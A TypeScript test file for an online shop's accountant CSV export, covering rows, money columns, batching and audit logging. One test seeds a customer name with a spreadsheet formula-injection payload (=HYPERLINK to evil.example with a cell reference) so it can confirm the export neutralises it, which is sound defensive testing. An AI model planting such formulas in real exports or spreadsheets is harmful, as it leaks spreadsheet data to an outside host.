// The accountant's export (lib/admin/export.ts) on a real database (both dialects): what the orders
// page's filter selects, one row per order or per line, in the shop's zone, with invoices, parcels
// and money (paid, refunded, net); UTF-8 with a BOM; a shopper's formula neutralised; read in
// batches of orders by id, one batch per pull; and an `order.exported` entry with the row count.
import { and, eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { migratedAndSeeded, setTestEnv } from "../support/app-db";
import { createPendingOrder } from "../support/pending-order";

setTestEnv();
const { activityLog, orderItems, orders, parcels, sellers } = await import("@/lib/db/schema");
const { exportStream, exportBatch } = await import("@/lib/admin/export");
const { parseOrderFilter } = await import("@/lib/admin/filter");
const { columnsOf } = await import("@/lib/export/order-rows");
const { orderReference } = await import("@/lib/format");

let db: Awaited<ReturnType<typeof migratedAndSeeded>>;
let sellerId: string;
let sellerName: string;
beforeAll(async () => {
  db = await migratedAndSeeded();
  const [seller] = await db.run((d) => d.select().from(sellers).limit(1));
  sellerId = seller!.id;
  sellerName = seller!.name;
});

const by = {
  staff: { id: 4242, email: "akuntan@toko.example", name: "Budi", role: "staff" as const },
  clientAddress: "198.51.100.7",
};

/** `2026-03-10T08:05` in Jakarta. */
const wib = (local: string) => new Date(`${local}+07:00`);

let run = 0;
/** An order for the domain `tag`, shaped by `change`, with two product lines and a shipping line. */
async function order(
  tag: string,
  change: Partial<typeof orders.$inferInsert> = {},
  options: { parcel?: { courier: string; trackingNumber: string } } = {},
) {
  const { orderId, invoice } = await createPendingOrder(db, 440_000);
  const n = ++run;
  await db.run((d) =>
    d
      .update(orders)
      .set({
        customerEmail: `shopper${n}@${tag}.example`,
        createdAt: wib(`2026-03-10T08:0${n % 10}:00`),
        ...change,
      })
      .where(eq(orders.id, orderId)),
  );
  await db.run((d) =>
    d
      .insert(orderItems)
      .values([
        line(orderId, "Kaos Batik, Ukuran L", "BTK-1", 2, 185_000),
        line(orderId, "Gantungan", "GNT-1", 1, 55_000),
        { ...line(orderId, "Ongkir", "SHIP", 1, 15_000), kind: "shipping" as const },
      ]),
  );
  if (options.parcel)
    await db.run((d) =>
      d.insert(parcels).values({ orderId, sellerId, state: "shipped", ...options.parcel }),
    );
  const [row] = await db.run((d) => d.select().from(orders).where(eq(orders.id, orderId)));
  return { id: orderId, invoice, token: row!.publicToken, n };
}
const line = (orderId: number, name: string, sku: string, quantity: number, unitPrice: number) => ({
  orderId,
  kind: "product" as const,
  sellerId,
  name,
  sku,
  itemType: "FASHION",
  unitPrice,
  quantity,
  lineTotal: unitPrice * quantity,
});

/** The stream read whole, as bytes and text, and the chunks it came in. */
async function readAll(stream: ReadableStream<Uint8Array>) {
  const chunks: Uint8Array[] = [];
  const reader = stream.getReader();
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    chunks.push(value);
  }
  const bytes = Buffer.concat(chunks);
  return {
    bytes,
    text: bytes.toString("utf8"),
    chunks: chunks.map((c) => Buffer.from(c).toString("utf8")),
  };
}
const records = (text: string) =>
  text
    .replace(/^\uFEFF/, "")
    .split("\r\n")
    .slice(0, -1);
const header = (shape: "order" | "line") => [...columnsOf(shape)];

describe("the export", () => {
  it("writes the BOM, the header and one row per order the filter selects, oldest id first", async () => {
    const paid = await order(
      "alpha",
      {
        status: "paid",
        paidAt: wib("2026-03-10T09:30:15"),
        fulfilment: "shipped",
        customerFirstName: "Siti",
        customerLastName: "Rahayu",
        refundedTotal: 40_000,
      },
      { parcel: { courier: "jne", trackingNumber: "JNE0123456789" } },
    );
    await order("alpha", { status: "pending" });
    await order("beta", { status: "paid", paidAt: new Date() });
    const filter = parseOrderFilter({ status: "paid", q: "@alpha.example" });
    const { bytes, text } = await readAll(
      exportStream({ filter, shape: "order", zone: "Asia/Jakarta", header: header("order"), by }),
    );
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = records(text);
    expect(rows[0]).toBe(header("order").join(","));
    expect(rows.slice(1)).toEqual([
      [
        paid.invoice,
        orderReference(paid.token),
        `2026-03-10 08:0${paid.n % 10}:00`,
        "2026-03-10 09:30:15",
        "Siti Rahayu",
        `shopper${paid.n}@alpha.example`,
        "6281234567890",
        "paid",
        "shipped",
        "jne",
        "JNE0123456789",
        "425000",
        "15000",
        "440000",
        "40000",
        "400000",
      ].join(","),
    ]);
  });

  it("one row per line carries the order's money on its first line only, and quotes a comma", async () => {
    const paid = await order("gamma", { status: "paid", paidAt: wib("2026-03-11T10:00:00") });
    const filter = parseOrderFilter({ q: "@gamma.example" });
    const { text } = await readAll(
      exportStream({ filter, shape: "line", zone: "Asia/Jakarta", header: header("line"), by }),
    );
    const rows = records(text).slice(1);
    expect(rows).toHaveLength(3);
    expect(rows[0]).toContain(
      `,425000,15000,440000,0,440000,product,"Kaos Batik, Ukuran L",BTK-1,${sellerName},2,185000,370000`,
    );
    expect(rows[1]).toContain(`,,,,,,product,Gantungan,GNT-1,${sellerName},1,55000,55000`);
    expect(rows[2]).toContain(`,shipping,Ongkir,SHIP,${sellerName},1,15000,15000`);
    expect(rows.every((r) => r.startsWith(paid.invoice))).toBe(true);
  });

  it("neutralises a shopper named =HYPERLINK(…) and a phone starting with + @faults", async () => {
    await order("delta", {
      customerFirstName: '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
      customerLastName: null,
      customerPhone: "+6281234567890",
    });
    const filter = parseOrderFilter({ q: "@delta.example" });
    const { text } = await readAll(
      exportStream({ filter, shape: "order", zone: "Asia/Jakarta", header: header("order"), by }),
    );
    const row = records(text)[1]!;
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")",`);
    expect(row).toContain(",'+6281234567890,");
    // No cell of the file starts a formula: every field after a comma or at a line start.
    expect(/(^|,)[=+\-@]/m.test(text.replace(/^\uFEFF/, ""))).toBe(false);
  });

  it("reads one batch of orders per pull and holds no more: 5 orders in batches of 2", async () => {
    for (let i = 0; i < 5; i++) await order("epsilon");
    const filter = parseOrderFilter({ q: "@epsilon.example" });
    const { chunks } = await readAll(
      exportStream({
        filter,
        shape: "order",
        zone: "Asia/Jakarta",
        header: header("order"),
        by,
        batchSize: 2,
      }),
    );
    // The header, then 2 + 2 + 1 orders.
    expect(chunks.map((c) => records(c).length)).toEqual([1, 2, 2, 1]);
    // Keyset: each batch starts after the last id of the one before.
    const first = await exportBatch(filter, "Asia/Jakarta", 0, 2);
    const second = await exportBatch(filter, "Asia/Jakarta", first[1]!.id, 2);
    expect(second[0]!.id).toBeGreaterThan(first[1]!.id);
  });

  it("records order.exported with the filter, the shape and the rows written", async () => {
    await order("zeta");
    await order("zeta");
    const filter = parseOrderFilter({ q: "@zeta.example" });
    await readAll(
      exportStream({ filter, shape: "line", zone: "Asia/Jakarta", header: header("line"), by }),
    );
    const entries = await db.run((d) =>
      d
        .select()
        .from(activityLog)
        .where(and(eq(activityLog.action, "order.exported"), eq(activityLog.actorId, by.staff.id))),
    );
    expect(entries.at(-1)).toMatchObject({
      actorName: "Budi",
      clientAddress: "198.51.100.7",
      after: {
        filter: { status: "all", q: "@zeta.example" },
        shape: "line",
        rows: 6,
        complete: true,
      },
    });
  });

  it("the entry keeps the fulfilment filter too: what the file holds is what the entry says", async () => {
    const kept = await order("omega", { status: "paid", fulfilment: "shipped" });
    await order("omega", { status: "paid", fulfilment: "unfulfilled" });
    const filter = parseOrderFilter({ q: "@omega.example", fulfilment: "shipped" });
    const { text } = await readAll(
      exportStream({ filter, shape: "order", zone: "Asia/Jakarta", header: header("order"), by }),
    );
    expect(records(text)).toHaveLength(2);
    expect(text).toContain(orderReference(kept.token));
    const entries = await db.run((d) =>
      d
        .select()
        .from(activityLog)
        .where(and(eq(activityLog.action, "order.exported"), eq(activityLog.actorId, by.staff.id))),
    );
    expect(entries.at(-1)!.after).toEqual({
      filter: { status: "all", fulfilment: "shipped", q: "@omega.example" },
      shape: "order",
      rows: 1,
      complete: true,
    });
  });
});
